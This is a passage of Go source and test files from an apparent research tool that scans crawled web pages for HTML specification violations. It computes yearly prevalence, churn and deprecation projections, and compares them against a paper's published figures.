	covered := make(map[string]bool)
	for _, row := range SpecCoverage() {
		covered[string(row.Code)] = true
	}
	for code := range UnemittedCodes() {
		covered[string(code)] = true
	}
	declared := 0
	for _, decl := range f.Decls {
		gd, ok := decl.(*ast.GenDecl)
		if !ok || gd.Tok != token.CONST {
			continue
		}
		for _, spec := range gd.Specs {
			vs, ok := spec.(*ast.ValueSpec)
			if !ok || len(vs.Values) != len(vs.Names) {
				continue
			}
			if id, ok := vs.Type.(*ast.Ident); !ok || id.Name != "ErrorCode" {
				continue
			}
			for i, name := range vs.Names {
				lit, ok := vs.Values[i].(*ast.BasicLit)
				if !ok || lit.Kind != token.STRING {
					t.Fatalf("constant %s is not a string literal", name.Name)
				}
				value := lit.Value[1 : len(lit.Value)-1] // strip quotes
				declared++
				if !covered[value] {
					t.Errorf("htmlparse.%s (%q) is missing from the spec coverage ledger; add it to SpecCoverage (with a provoking document) or UnemittedCodes", name.Name, value)
				}
			}
		}
	}
	if want := len(SpecCoverage()) + len(UnemittedCodes()); declared != want {
		t.Errorf("errors.go declares %d ErrorCode constants, ledger has %d rows", declared, want)
	}
}
