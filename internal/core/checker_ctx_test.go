package core

import (
	"context"
	"errors"
	"strings"
	"testing"
)

func TestCheckStreamContextMatchesCheckStream(t *testing.T) {
	c := NewStreamingChecker()
	html := []byte("<!DOCTYPE html><p id=a id=b>x</p><img src=\"a\nb<c\">")
	want, err := c.CheckStream(html)
	if err != nil {
		t.Fatal(err)
	}
	got, err := c.CheckStreamContext(context.Background(), html)
	if err != nil {
		t.Fatal(err)
	}
	if len(got.Findings) != len(want.Findings) {
		t.Fatalf("findings: got %d want %d", len(got.Findings), len(want.Findings))
	}
	for i := range got.Findings {
		if got.Findings[i] != want.Findings[i] {
			t.Fatalf("finding %d diverged: got %v want %v", i, got.Findings[i], want.Findings[i])
		}
	}
	if got.Signals != want.Signals {
		t.Fatalf("signals diverged: got %+v want %+v", got.Signals, want.Signals)
	}
}

func TestCheckStreamContextCancellation(t *testing.T) {
	c := NewStreamingChecker()
	// Enough tags to cross the cancel stride repeatedly.
	html := []byte(strings.Repeat("<p a=b></p>", 10000))
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	rep, err := c.CheckStreamContext(ctx, html)
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("err = %v, want context.Canceled", err)
	}
	if rep != nil {
		t.Fatal("canceled check returned a report")
	}
	// The pooled token stream recycled by the aborted check must be
	// clean for the next caller.
	rep, err = c.CheckStreamContext(context.Background(), []byte("<p>ok</p>"))
	if err != nil || rep == nil {
		t.Fatalf("check after aborted check: rep=%v err=%v", rep, err)
	}
}
