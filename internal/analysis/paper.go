package analysis

// Reference values published in the paper, used by the report layer and
// the benchmarks to print paper-vs-measured comparisons. Figure series
// are transcribed from the plotted lines; in-text numbers are exact.

// PaperYears are the study years, aligned with all series below.
var PaperYears = []int{2015, 2016, 2017, 2018, 2019, 2020, 2021, 2022}

// PaperFigure9 is the percentage of analyzed domains with at least one
// violation per year (exact, printed on the figure).
var PaperFigure9 = []float64{74.31, 73.57, 74.85, 71.68, 71.71, 70.29, 69.22, 68.38}

// PaperFigure8 is the all-years distribution: percentage of the 23,983
// dataset domains on which each violation appeared at least once (exact,
// printed on the figure).
var PaperFigure8 = map[string]float64{
	"FB2": 78.54, "DM3": 75.14, "FB1": 42.84, "HF4": 39.64,
	"HF1": 36.13, "HF2": 32.81, "HF3": 28.52, "DM1": 21.02,
	"DM2_3": 13.28, "HF5_1": 10.12, "DE4": 7.03, "DE3_2": 5.25,
	"DE3_1": 4.46, "DM2_1": 1.79, "DM2_2": 1.31, "HF5_2": 1.22,
	"DE3_3": 0.93, "DE2": 0.27, "DE1": 0.10, "HF5_3": 0.01,
}

// PaperFigure8Order is the figure's x-axis order (descending prevalence).
var PaperFigure8Order = []string{
	"FB2", "DM3", "FB1", "HF4", "HF1", "HF2", "HF3", "DM1", "DM2_3",
	"HF5_1", "DE4", "DE3_2", "DE3_1", "DM2_1", "DM2_2", "HF5_2",
	"DE3_3", "DE2", "DE1", "HF5_3",
}

// PaperFigure10 carries the problem-group trend endpoints stated in §4.3
// (full series are only plotted; endpoints are in the text).
var PaperFigure10 = map[string][2]float64{
	"FB": {52, 43},
	"DM": {47, 44},
	"HF": {42, 33},
	"DE": {5, 4},
}

// PaperTable2 rows: analyzed domains and average pages per crawl.
type PaperTable2Row struct {
	Crawl      string
	Domains    int
	Analyzed   int
	SuccessPct float64
	AvgPages   float64
}

// PaperTable2 is Table 2 of the paper.
var PaperTable2 = []PaperTable2Row{
	{"CC-MAIN-2015-14", 21068, 20579, 97.7, 78.8},
	{"CC-MAIN-2016-07", 21156, 20705, 97.9, 77.9},
	{"CC-MAIN-2017-04", 22311, 22038, 98.8, 87.3},
	{"CC-MAIN-2018-05", 22504, 22271, 99.0, 88.3},
	{"CC-MAIN-2019-04", 23049, 22830, 99.1, 90.1},
	{"CC-MAIN-2020-05", 22923, 22736, 99.2, 89.7},
	{"CC-MAIN-2021-04", 22843, 22668, 99.3, 89.8},
	{"CC-MAIN-2022-05", 22583, 22429, 99.3, 89.7},
}

// Headline in-text numbers.
const (
	// PaperUnionViolatingPct: 22,187 of 23,983 domains (92%) violated at
	// least once over the eight years (§4.2).
	PaperUnionViolatingPct = 92.0
	// PaperViolating2022Pct: 68% of domains still violate in 2022.
	PaperViolating2022Pct = 68.38
	// PaperFixableOfViolatingPct: automation would repair 46% of violating
	// sites (15,337 → 8,298; §4.4).
	PaperFixableOfViolatingPct = 46.0
	// PaperRemainingAfterFixPct: 37% of all domains would still violate
	// after automatic fixes (§4.4).
	PaperRemainingAfterFixPct = 37.0
	// PaperScriptInAttr2015Pct / 2022: the nonce-stealing mitigation
	// signal (§4.5).
	PaperScriptInAttr2015Pct = 1.5
	PaperScriptInAttr2022Pct = 1.4
	// PaperNewlineURL2015Pct / 2022: URLs with a raw newline (§4.5).
	PaperNewlineURL2015Pct = 11.2
	PaperNewlineURL2022Pct = 11.0
	// PaperNewlineLt2015Pct / 2022: URLs with newline and '<' (§4.5).
	PaperNewlineLt2015Pct = 1.37
	PaperNewlineLt2022Pct = 0.76
	// PaperMathDomains2015 / 2022: benign math element adoption (§4.2).
	PaperMathDomains2015 = 42
	PaperMathDomains2022 = 224
)

// PaperRuleTrends carries the per-violation yearly series of Appendix B
// (Figures 16–21), transcribed from the plots; values are percentages of
// analyzed domains.
var PaperRuleTrends = map[string][]float64{
	"FB2":   {50.0, 49.0, 50.0, 47.0, 46.0, 45.0, 44.0, 43.0},
	"FB1":   {28.0, 27.0, 27.0, 24.0, 22.0, 21.0, 19.0, 17.0},
	"DM3":   {42.0, 41.0, 42.0, 40.0, 39.0, 39.0, 38.5, 38.0},
	"DM1":   {11.0, 11.0, 10.5, 10.0, 9.5, 9.0, 8.8, 8.5},
	"DM2_1": {0.9, 0.9, 0.85, 0.8, 0.75, 0.7, 0.65, 0.6},
	"DM2_2": {0.7, 0.7, 0.65, 0.6, 0.55, 0.5, 0.48, 0.45},
	"DM2_3": {7.0, 7.0, 6.8, 6.4, 6.0, 5.7, 5.4, 5.2},
	"HF1":   {17.0, 16.5, 16.0, 15.0, 14.0, 13.0, 12.0, 11.0},
	"HF2":   {16.0, 15.5, 15.0, 14.0, 13.5, 13.0, 12.5, 12.0},
	"HF3":   {12.0, 11.5, 11.0, 10.0, 9.5, 9.0, 8.5, 8.0},
	"HF4":   {25.0, 24.0, 24.0, 22.0, 20.0, 19.0, 18.0, 17.0},
	"HF5_1": {5.0, 5.0, 4.8, 4.6, 4.4, 4.2, 4.0, 3.8},
	"HF5_2": {1.30, 1.25, 1.20, 1.15, 1.10, 1.05, 1.00, 0.95},
	"HF5_3": {0.005, 0.005, 0.005, 0.006, 0.006, 0.007, 0.007, 0.008},
	"DE4":   {2.0, 1.9, 1.9, 1.8, 1.7, 1.6, 1.6, 1.5},
	"DE3_2": {1.50, 1.48, 1.46, 1.44, 1.42, 1.41, 1.40, 1.40},
	"DE3_1": {1.37, 1.30, 1.20, 1.10, 1.00, 0.90, 0.80, 0.76},
	"DE3_3": {0.30, 0.28, 0.27, 0.25, 0.24, 0.22, 0.21, 0.20},
	"DE2":   {0.08, 0.08, 0.07, 0.07, 0.06, 0.06, 0.06, 0.05},
	"DE1":   {0.03, 0.03, 0.03, 0.025, 0.025, 0.02, 0.02, 0.02},
}

// AppendixFigures maps each Appendix B figure to the rules it plots.
var AppendixFigures = []struct {
	Figure string
	Title  string
	Rules  []string
}{
	{"16", "Filter Bypass", []string{"FB2", "FB1"}},
	{"17", "HTML Formatting 1", []string{"HF1", "HF2", "HF3"}},
	{"18", "HTML Formatting 2", []string{"HF4", "HF5_1", "HF5_2", "HF5_3"}},
	{"19", "Data Manipulation", []string{"DM1", "DM2_1", "DM2_2", "DM2_3", "DM3"}},
	{"20", "Data Exfiltration 1", []string{"DE3_1", "DE3_2", "DE3_3"}},
	{"21", "Data Exfiltration 2", []string{"DE1", "DE2", "DE4"}},
}
