package analysis

import (
	"math"
	"sort"

	"github.com/hvscan/hvscan/internal/core"
	"github.com/hvscan/hvscan/internal/store"
)

// Analyses backing the paper's Discussion section: the popularity
// generalization of §5.2 and the deprecation roadmap of §5.3.2 turned
// into a projection. (§5.1's dynamic-content pre-study lives in
// internal/prestudy because it needs the generator, not the store.)

// Generalization compares the most popular stratum of the dataset against
// the least popular one within a crawl (paper §5.2: top sites are larger,
// more complex and carry more violations on average than the tail).
type Generalization struct {
	Crawl string
	Top   Stratum
	Tail  Stratum
}

// Stratum summarizes one rank band.
type Stratum struct {
	Domains       int
	ViolatingPct  float64
	AvgViolations float64 // distinct rules per violating domain
	TopRules      []string
}

// GeneralizationFor splits the crawl's analyzed domains into the top and
// bottom third by rank and summarizes each.
func (a *Analyzer) GeneralizationFor(crawl string) Generalization {
	doms := a.analyzedDomains(crawl)
	ranked := make([]*store.DomainResult, 0, len(doms))
	for _, d := range doms {
		if d.Rank > 0 {
			ranked = append(ranked, d)
		}
	}
	sort.Slice(ranked, func(i, j int) bool { return ranked[i].Rank < ranked[j].Rank })
	g := Generalization{Crawl: crawl}
	third := len(ranked) / 3
	if third == 0 {
		return g
	}
	g.Top = summarizeStratum(ranked[:third])
	g.Tail = summarizeStratum(ranked[len(ranked)-third:])
	return g
}

func summarizeStratum(doms []*store.DomainResult) Stratum {
	s := Stratum{Domains: len(doms)}
	violating := 0
	totalRules := 0
	ruleCounts := map[string]int{}
	for _, d := range doms {
		rules := 0
		for rule, n := range d.Violations {
			if n > 0 {
				rules++
				ruleCounts[rule]++
			}
		}
		if rules > 0 {
			violating++
			totalRules += rules
		}
	}
	if len(doms) > 0 {
		s.ViolatingPct = 100 * float64(violating) / float64(len(doms))
	}
	if violating > 0 {
		s.AvgViolations = float64(totalRules) / float64(violating)
	}
	type rc struct {
		rule string
		n    int
	}
	var rcs []rc
	for rule, n := range ruleCounts {
		rcs = append(rcs, rc{rule, n})
	}
	sort.Slice(rcs, func(i, j int) bool {
		if rcs[i].n != rcs[j].n {
			return rcs[i].n > rcs[j].n
		}
		return rcs[i].rule < rcs[j].rule
	})
	for i := 0; i < len(rcs) && i < 3; i++ {
		s.TopRules = append(s.TopRules, rcs[i].rule)
	}
	return s
}

// DeprecationStage is one step of the §5.3.2 roadmap: the rules whose
// prevalence is (projected to be) below the threshold by the given year
// join the enforced list then.
type DeprecationStage struct {
	Year  int
	Rules []string
}

// DeprecationPlan projects each rule's yearly trend forward linearly (least
// squares over the measured series) and schedules it for enforcement in
// the first year its rate falls below thresholdPct. Rules already below
// the threshold in the final measured year form the first stage — exactly
// the violations the paper proposes enforcing immediately (math-related
// and dangling markup). Rules whose trend never reaches the threshold
// within horizon years are reported under Year -1 ("needs developer
// action first").
func (a *Analyzer) DeprecationPlan(thresholdPct float64, horizon int) []DeprecationStage {
	trends := a.RuleTrends()
	crawls := a.Crawls()
	if len(crawls) == 0 {
		return nil
	}
	lastYear := 2015 + len(crawls) - 1
	stageRules := map[int][]string{}
	for _, rule := range core.RuleIDs() {
		series := trends[rule]
		year := enforceYear(series, thresholdPct, lastYear, horizon)
		stageRules[year] = append(stageRules[year], rule)
	}
	years := make([]int, 0, len(stageRules))
	for y := range stageRules {
		years = append(years, y)
	}
	sort.Ints(years)
	// Never-reached (-1) sorts first; move it last.
	if len(years) > 0 && years[0] == -1 {
		years = append(years[1:], -1)
	}
	var plan []DeprecationStage
	for _, y := range years {
		rules := stageRules[y]
		sort.Strings(rules)
		plan = append(plan, DeprecationStage{Year: y, Rules: rules})
	}
	return plan
}

// enforceYear computes the first year the linear trend drops below the
// threshold.
func enforceYear(series []YearlyPoint, threshold float64, lastYear, horizon int) int {
	if len(series) == 0 {
		return -1
	}
	last := series[len(series)-1].Pct
	if last < threshold {
		return lastYear
	}
	slope, intercept := linearFit(series)
	if slope >= 0 {
		return -1 // flat or growing: deprecation needs intervention
	}
	// Solve intercept + slope*x < threshold for the year index x.
	x := (threshold - intercept) / slope
	year := 2015 + int(math.Ceil(x))
	if year <= lastYear {
		year = lastYear + 1
	}
	if year > lastYear+horizon {
		return -1
	}
	return year
}

// linearFit returns the least-squares slope and intercept of the series
// over year indexes 0..n-1.
func linearFit(series []YearlyPoint) (slope, intercept float64) {
	n := float64(len(series))
	var sumX, sumY, sumXY, sumXX float64
	for i, p := range series {
		x := float64(i)
		sumX += x
		sumY += p.Pct
		sumXY += x * p.Pct
		sumXX += x * x
	}
	den := n*sumXX - sumX*sumX
	if den == 0 {
		return 0, sumY / n
	}
	slope = (n*sumXY - sumX*sumY) / den
	intercept = (sumY - slope*sumX) / n
	return slope, intercept
}
