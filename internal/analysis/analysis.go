// Package analysis computes the paper's aggregate results (Tables 1–2,
// Figures 8–10 and 16–21, and the in-text statistics of §4.2, §4.4 and
// §4.5) from a populated result store.
package analysis

import (
	"sort"

	"github.com/hvscan/hvscan/internal/core"
	"github.com/hvscan/hvscan/internal/store"
)

// Analyzer reads a store and answers the paper's questions.
type Analyzer struct {
	st *store.Store
}

// New wraps a store.
func New(st *store.Store) *Analyzer { return &Analyzer{st: st} }

// Crawls returns the crawls present, chronological.
func (a *Analyzer) Crawls() []string { return a.st.Crawls() }

// analyzedDomains returns the analyzed domain results of a crawl.
func (a *Analyzer) analyzedDomains(crawl string) []*store.DomainResult {
	var out []*store.DomainResult
	for _, d := range a.st.Domains(crawl) {
		if d.Analyzed() {
			out = append(out, d)
		}
	}
	return out
}

// --- Figure 9: domains with at least one violation, per year ---

// YearlyPoint is one point of a yearly percentage series.
type YearlyPoint struct {
	Crawl    string
	Analyzed int
	Count    int
	Pct      float64
}

// YearlyViolating computes the Figure 9 series.
func (a *Analyzer) YearlyViolating() []YearlyPoint {
	var out []YearlyPoint
	for _, crawl := range a.Crawls() {
		doms := a.analyzedDomains(crawl)
		n := 0
		for _, d := range doms {
			if d.Violated() {
				n++
			}
		}
		out = append(out, point(crawl, len(doms), n))
	}
	return out
}

func point(crawl string, analyzed, count int) YearlyPoint {
	p := YearlyPoint{Crawl: crawl, Analyzed: analyzed, Count: count}
	if analyzed > 0 {
		p.Pct = 100 * float64(count) / float64(analyzed)
	}
	return p
}

// --- Figure 8: all-years distribution per rule ---

// Distribution computes, per rule, how many dataset domains exhibited the
// violation in at least one snapshot, as a percentage of all domains
// analyzed at least once.
func (a *Analyzer) Distribution() (total int, perRule map[string]YearlyPoint) {
	domains := map[string]bool{}
	hit := map[string]map[string]bool{} // rule -> domain set
	a.st.ForEach(func(d *store.DomainResult) {
		if !d.Analyzed() {
			return
		}
		domains[d.Domain] = true
		for rule, n := range d.Violations {
			if n == 0 {
				continue
			}
			set := hit[rule]
			if set == nil {
				set = map[string]bool{}
				hit[rule] = set
			}
			set[d.Domain] = true
		}
	})
	total = len(domains)
	perRule = make(map[string]YearlyPoint, len(hit))
	for _, rule := range core.RuleIDs() {
		perRule[rule] = point("all", total, len(hit[rule]))
	}
	return total, perRule
}

// UnionViolating computes §4.2's headline: the share of dataset domains
// with at least one violation in any snapshot.
func (a *Analyzer) UnionViolating() YearlyPoint {
	domains := map[string]bool{}
	violated := map[string]bool{}
	a.st.ForEach(func(d *store.DomainResult) {
		if !d.Analyzed() {
			return
		}
		domains[d.Domain] = true
		if d.Violated() {
			violated[d.Domain] = true
		}
	})
	return point("all", len(domains), len(violated))
}

// --- Figure 10: problem-group trends ---

// GroupTrends returns, per problem group, the yearly percentage of
// analyzed domains violating at least one rule of that group.
func (a *Analyzer) GroupTrends() map[core.Group][]YearlyPoint {
	groups := []core.Group{core.FilterBypass, core.DataManipulation,
		core.DataExfiltration, core.HTMLFormatting}
	out := make(map[core.Group][]YearlyPoint, len(groups))
	for _, crawl := range a.Crawls() {
		doms := a.analyzedDomains(crawl)
		counts := map[core.Group]int{}
		for _, d := range doms {
			seen := map[core.Group]bool{}
			for rule, n := range d.Violations {
				if n > 0 {
					seen[core.GroupOf(rule)] = true
				}
			}
			for g := range seen {
				counts[g]++
			}
		}
		for _, g := range groups {
			out[g] = append(out[g], point(crawl, len(doms), counts[g]))
		}
	}
	return out
}

// --- Figures 16–21: per-rule trends ---

// RuleTrends returns the yearly series for each given rule.
func (a *Analyzer) RuleTrends(rules ...string) map[string][]YearlyPoint {
	if len(rules) == 0 {
		rules = core.RuleIDs()
	}
	out := make(map[string][]YearlyPoint, len(rules))
	for _, crawl := range a.Crawls() {
		doms := a.analyzedDomains(crawl)
		counts := map[string]int{}
		for _, d := range doms {
			for rule, n := range d.Violations {
				if n > 0 {
					counts[rule]++
				}
			}
		}
		for _, rule := range rules {
			out[rule] = append(out[rule], point(crawl, len(doms), counts[rule]))
		}
	}
	return out
}

// --- Table 2: dataset statistics ---

// Table2Row mirrors a row of the paper's Table 2.
type Table2Row struct {
	Crawl      string
	Domains    int     // attempted (found on the crawl)
	Analyzed   int     // successfully analyzed
	SuccessPct float64 // analyzed / found
	AvgPages   float64 // analyzed pages per analyzed domain
}

// Table2 recomputes the dataset statistics from snapshot stats recorded by
// the pipeline.
func Table2(stats []store.CrawlStats) []Table2Row {
	rows := make([]Table2Row, 0, len(stats))
	for _, s := range stats {
		r := Table2Row{
			Crawl:    s.Crawl,
			Domains:  s.Found,
			Analyzed: s.Analyzed,
		}
		if s.Found > 0 {
			r.SuccessPct = 100 * float64(s.Analyzed) / float64(s.Found)
		}
		if s.Analyzed > 0 {
			r.AvgPages = float64(s.PagesAnalyzed) / float64(s.Analyzed)
		}
		rows = append(rows, r)
	}
	sort.Slice(rows, func(i, j int) bool { return rows[i].Crawl < rows[j].Crawl })
	return rows
}

// --- §4.4: fixability ---

// Fixability quantifies the automation estimate for one crawl (the paper
// uses the latest snapshot).
type Fixability struct {
	Crawl            string
	Analyzed         int
	Violating        int
	OnlyAutoFixable  int     // violating domains whose every violation is FB/DM
	RemainingPct     float64 // violating after automatic fixes / analyzed
	FixableOfViolPct float64 // OnlyAutoFixable / Violating
}

// FixabilityFor computes §4.4 for the given crawl.
func (a *Analyzer) FixabilityFor(crawl string) Fixability {
	f := Fixability{Crawl: crawl}
	for _, d := range a.analyzedDomains(crawl) {
		f.Analyzed++
		if !d.Violated() {
			continue
		}
		f.Violating++
		fixable := true
		for rule, n := range d.Violations {
			if n == 0 {
				continue
			}
			r, ok := core.RuleByID(rule)
			if !ok || !r.AutoFixable {
				fixable = false
				break
			}
		}
		if fixable {
			f.OnlyAutoFixable++
		}
	}
	if f.Violating > 0 {
		f.FixableOfViolPct = 100 * float64(f.OnlyAutoFixable) / float64(f.Violating)
	}
	if f.Analyzed > 0 {
		f.RemainingPct = 100 * float64(f.Violating-f.OnlyAutoFixable) / float64(f.Analyzed)
	}
	return f
}

// LatestCrawl returns the chronologically last crawl in the store.
func (a *Analyzer) LatestCrawl() string {
	crawls := a.Crawls()
	if len(crawls) == 0 {
		return ""
	}
	return crawls[len(crawls)-1]
}

// --- §4.5: mitigation overlap ---

// MitigationStats carries the per-crawl mitigation measurements.
type MitigationStats struct {
	Crawl         string
	Analyzed      int
	NewlineURL    YearlyPoint // URLs with a raw newline
	NewlineLtURL  YearlyPoint // URLs with newline and '<'
	ScriptInAttr  YearlyPoint // "<script" inside an attribute
	NonceAffected YearlyPoint // nonce-carrying scripts actually affected
	MathDomains   int         // domains using the math element
}

// Mitigations computes the §4.5 numbers for every crawl.
func (a *Analyzer) Mitigations() []MitigationStats {
	var out []MitigationStats
	for _, crawl := range a.Crawls() {
		doms := a.analyzedDomains(crawl)
		m := MitigationStats{Crawl: crawl, Analyzed: len(doms)}
		var nl, nlLt, script, nonce, math int
		for _, d := range doms {
			if d.Signals[store.SignalNewlineURL] > 0 || d.Signals[store.SignalNewlineLtURL] > 0 {
				nl++
			}
			if d.Signals[store.SignalNewlineLtURL] > 0 {
				nlLt++
			}
			if d.Signals[store.SignalScriptInAttr] > 0 {
				script++
			}
			if d.Signals[store.SignalNonceAffected] > 0 {
				nonce++
			}
			if d.Signals[store.SignalUsesMath] > 0 {
				math++
			}
		}
		m.NewlineURL = point(crawl, len(doms), nl)
		m.NewlineLtURL = point(crawl, len(doms), nlLt)
		m.ScriptInAttr = point(crawl, len(doms), script)
		m.NonceAffected = point(crawl, len(doms), nonce)
		m.MathDomains = math
		out = append(out, m)
	}
	return out
}
