package analysis

import (
	"fmt"
	"testing"

	"github.com/hvscan/hvscan/internal/corpus"
	"github.com/hvscan/hvscan/internal/store"
)

// rankedStore builds a crawl where low ranks (popular) violate more.
func rankedStore() *store.Store {
	st := store.New()
	for rank := 1; rank <= 90; rank++ {
		v := map[string]int{}
		switch {
		case rank <= 30: // top stratum: two violations each
			v["FB2"] = 1
			v["HF4"] = 1
		case rank <= 60: // middle
			if rank%2 == 0 {
				v["FB2"] = 1
			}
		default: // tail: one in three violates with one rule
			if rank%3 == 0 {
				v["DM3"] = 1
			}
		}
		st.Put(&store.DomainResult{
			Crawl: "c1", Domain: fmt.Sprintf("d%03d.example", rank), Rank: rank,
			PagesFound: 2, PagesAnalyzed: 2, Violations: v,
		})
	}
	return st
}

func TestGeneralization(t *testing.T) {
	a := New(rankedStore())
	g := a.GeneralizationFor("c1")
	if g.Top.Domains != 30 || g.Tail.Domains != 30 {
		t.Fatalf("strata = %+v", g)
	}
	if g.Top.ViolatingPct != 100 {
		t.Fatalf("top violating = %f", g.Top.ViolatingPct)
	}
	if g.Tail.ViolatingPct >= g.Top.ViolatingPct {
		t.Fatalf("tail (%f) not below top (%f)", g.Tail.ViolatingPct, g.Top.ViolatingPct)
	}
	if g.Top.AvgViolations <= g.Tail.AvgViolations {
		t.Fatalf("avg violations: top %f vs tail %f", g.Top.AvgViolations, g.Tail.AvgViolations)
	}
	if len(g.Top.TopRules) == 0 || g.Top.TopRules[0] != "FB2" {
		t.Fatalf("top rules = %v", g.Top.TopRules)
	}
}

func TestGeneralizationEmpty(t *testing.T) {
	a := New(store.New())
	g := a.GeneralizationFor("missing")
	if g.Top.Domains != 0 || g.Tail.Domains != 0 {
		t.Fatalf("empty store produced strata: %+v", g)
	}
}

// trendStore builds eight crawls with controlled trends: "DE9X" ... we use
// real rule IDs with synthetic rates.
func trendStore() *store.Store {
	st := store.New()
	crawls := []string{
		"CC-MAIN-2015-14", "CC-MAIN-2016-07", "CC-MAIN-2017-04",
		"CC-MAIN-2018-05", "CC-MAIN-2019-04", "CC-MAIN-2020-05",
		"CC-MAIN-2021-04", "CC-MAIN-2022-05",
	}
	for ci, crawl := range crawls {
		for d := 0; d < 100; d++ {
			v := map[string]int{}
			// FB2: flat at 50% — never enforceable by projection.
			if d < 50 {
				v["FB2"] = 1
			}
			// DE1: already rare (<1%) — stage 1.
			if d == 0 && ci < 2 {
				v["DE1"] = 1
			}
			// HF3: declining 16% -> 2%: crosses 1% soon after the window.
			if d < 16-2*ci {
				v["HF3"] = 1
			}
			st.Put(&store.DomainResult{
				Crawl: crawl, Domain: fmt.Sprintf("d%03d.example", d), Rank: d + 1,
				PagesFound: 1, PagesAnalyzed: 1, Violations: v,
			})
		}
	}
	return st
}

func TestDeprecationPlan(t *testing.T) {
	a := New(trendStore())
	plan := a.DeprecationPlan(1.0, 15)
	if len(plan) == 0 {
		t.Fatal("empty plan")
	}
	stageOf := map[string]int{}
	for _, stage := range plan {
		for _, r := range stage.Rules {
			stageOf[r] = stage.Year
		}
	}
	// Every rule must be scheduled somewhere.
	if len(stageOf) != 20 {
		t.Fatalf("%d rules scheduled", len(stageOf))
	}
	// DE1 is already below 1% in 2022: first stage.
	if stageOf["DE1"] != 2022 {
		t.Fatalf("DE1 scheduled for %d", stageOf["DE1"])
	}
	// HF3 declines 2 points/year from 2%: below 1% within a year or two.
	if y := stageOf["HF3"]; y < 2023 || y > 2026 {
		t.Fatalf("HF3 scheduled for %d", y)
	}
	// FB2 is flat at 50%: never enforceable by trend alone.
	if stageOf["FB2"] != -1 {
		t.Fatalf("FB2 scheduled for %d, want -1 (needs intervention)", stageOf["FB2"])
	}
	// Stages are year-ordered with -1 last.
	for i := 1; i < len(plan); i++ {
		if plan[i-1].Year == -1 {
			t.Fatalf("-1 stage not last: %v", plan)
		}
		if plan[i].Year != -1 && plan[i].Year < plan[i-1].Year {
			t.Fatalf("stages out of order: %v", plan)
		}
	}
}

func TestLinearFit(t *testing.T) {
	series := []YearlyPoint{{Pct: 10}, {Pct: 8}, {Pct: 6}, {Pct: 4}}
	slope, intercept := linearFit(series)
	if slope > -1.99 || slope < -2.01 {
		t.Fatalf("slope = %f", slope)
	}
	if intercept > 10.01 || intercept < 9.99 {
		t.Fatalf("intercept = %f", intercept)
	}
}

func TestChurnBetween(t *testing.T) {
	st := store.New()
	put := func(crawl, domain string, v map[string]int) {
		st.Put(&store.DomainResult{
			Crawl: crawl, Domain: domain, PagesFound: 1, PagesAnalyzed: 1, Violations: v,
		})
	}
	// a: fixed; b: newly violating; c: still violating with rule churn
	// (FB2 lost, DM3 gained, HF4 kept); d: still clean; e: only in c2.
	put("c1", "a", map[string]int{"FB2": 1})
	put("c1", "b", nil)
	put("c1", "c", map[string]int{"FB2": 1, "HF4": 1})
	put("c1", "d", nil)
	put("c2", "a", nil)
	put("c2", "b", map[string]int{"DM3": 1})
	put("c2", "c", map[string]int{"DM3": 1, "HF4": 2})
	put("c2", "d", nil)
	put("c2", "e", map[string]int{"FB1": 1})

	a := New(st)
	ch := a.ChurnBetween("c1", "c2")
	if ch.Common != 4 {
		t.Fatalf("common = %d", ch.Common)
	}
	if ch.Fixed != 1 || ch.NewlyViolating != 1 || ch.StillViolating != 1 || ch.StillClean != 1 {
		t.Fatalf("churn = %+v", ch)
	}
	get := func(rule string) RuleChurn {
		for _, rc := range ch.PerRule {
			if rc.Rule == rule {
				return rc
			}
		}
		t.Fatalf("rule %s missing", rule)
		return RuleChurn{}
	}
	if fb2 := get("FB2"); fb2.Lost != 2 || fb2.Gained != 0 || fb2.Kept != 0 || fb2.TurnoverPct != 100 {
		t.Fatalf("FB2 churn = %+v", fb2)
	}
	if dm3 := get("DM3"); dm3.Gained != 2 || dm3.Lost != 0 {
		t.Fatalf("DM3 churn = %+v", dm3)
	}
	if hf4 := get("HF4"); hf4.Kept != 1 || hf4.TurnoverPct != 0 {
		t.Fatalf("HF4 churn = %+v", hf4)
	}
	// e is not common to both snapshots: FB1 must not count.
	if fb1 := get("FB1"); fb1.Gained != 0 {
		t.Fatalf("FB1 churn = %+v", fb1)
	}
}

// TestChurnOnGeneratedCorpus ties the churn mechanism to the headline
// union effect: turnover must be substantial for the high-churn rules.
func TestChurnOnGeneratedCorpus(t *testing.T) {
	a := New(corpusForChurn())
	ch := a.ChurnBetween("CC-MAIN-2015-14", "CC-MAIN-2022-05")
	if ch.Common < 500 {
		t.Fatalf("common = %d", ch.Common)
	}
	if ch.Fixed == 0 || ch.NewlyViolating == 0 {
		t.Fatalf("no churn observed: %+v", ch)
	}
	for _, rc := range ch.PerRule {
		if rc.Rule == "FB2" {
			// FB2 churns fast (ruleChurn 0.43/yr over 7 years).
			if rc.TurnoverPct < 40 {
				t.Fatalf("FB2 turnover %.1f%%, want substantial", rc.TurnoverPct)
			}
		}
	}
}

// corpusForChurn builds a store from generator ground truth (no parsing).
func corpusForChurn() *store.Store {
	g := corpus.New(corpus.Config{Seed: 31, Domains: 800, MaxPages: 1})
	st := store.New()
	for _, snap := range []corpus.Snapshot{corpus.Snapshots[0], corpus.Snapshots[7]} {
		for rank, d := range g.Universe() {
			if !g.Present(d, snap) || !g.Succeeds(d, snap) {
				continue
			}
			v := map[string]int{}
			for _, r := range g.ActiveRules(d, snap) {
				v[r] = 1
			}
			st.Put(&store.DomainResult{
				Crawl: snap.ID, Domain: d, Rank: rank + 1,
				PagesFound: 1, PagesAnalyzed: 1, Violations: v,
			})
		}
	}
	return st
}
