package analysis

import (
	"sort"

	"github.com/hvscan/hvscan/internal/core"
	"github.com/hvscan/hvscan/internal/store"
)

// Churn quantifies the paper's §4.4/§5.2 observation that refactoring both
// removes and introduces violations: between two snapshots, which domains
// got fixed, which newly violate, and how each rule's domain set turned
// over. This is the mechanism behind the all-years union (92%) exceeding
// every single year (68–74%).
type Churn struct {
	FromCrawl, ToCrawl string
	// Common is the number of domains analyzed in both snapshots.
	Common int
	// Fixed: violating in From, clean in To.
	Fixed int
	// NewlyViolating: clean in From, violating in To.
	NewlyViolating int
	// StillViolating / StillClean complete the 2×2 table.
	StillViolating int
	StillClean     int
	// PerRule lists each rule's turnover, catalogue-ordered.
	PerRule []RuleChurn
}

// RuleChurn is one rule's domain-set turnover between two snapshots.
type RuleChurn struct {
	Rule   string
	Lost   int // had it, lost it
	Gained int // gained it
	Kept   int // had it both times
	// TurnoverPct is (Lost+Gained) / (Kept+Lost+Gained), the share of the
	// involved domains that changed state.
